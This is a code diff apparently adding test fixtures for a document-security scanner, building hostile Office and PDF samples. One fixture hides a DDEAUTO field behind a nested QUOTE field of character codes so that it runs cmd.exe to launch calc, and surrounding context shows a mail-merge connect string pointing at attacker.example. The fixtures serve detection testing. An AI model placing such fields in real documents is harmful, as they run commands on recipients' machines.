@@ -472,3 +472,19 @@ def mail_merge_docx() -> bytes:
                              '<w:connectString w:val="DSN=x;SERVER=attacker.example"/><w:query w:val="SELECT 1"/>'
                              "</w:mailMerge></w:settings>".encode(),
         "word/_rels/document.xml.rels": _relationships(("settings", "settings.xml", ""))})
+
+
+def computed_field_docx() -> bytes:
+    """A field whose kind is computed by a QUOTE field nested at the start of its code (D D E A U T O by their
+    character codes), a published way of hiding a DDE field."""
+    def run(kind: str = "", code: str = "") -> str:
+        return (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' if kind
+                else f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>')
+    return _docx("<w:p>" + run("begin") + run("begin") + run(code="QUOTE 68 68 69 65 85 84 79") + run("end")
+                 + run(code=' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') + run("end") + "</w:p>")
+
+
+def scheme_link_pdf(uri: bytes) -> bytes:
+    """A link whose address is of another scheme than a web or mail address."""
+    return _pdf_with(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
+                                              b"/A << /S /URI /URI (" + uri + b") >> >>")
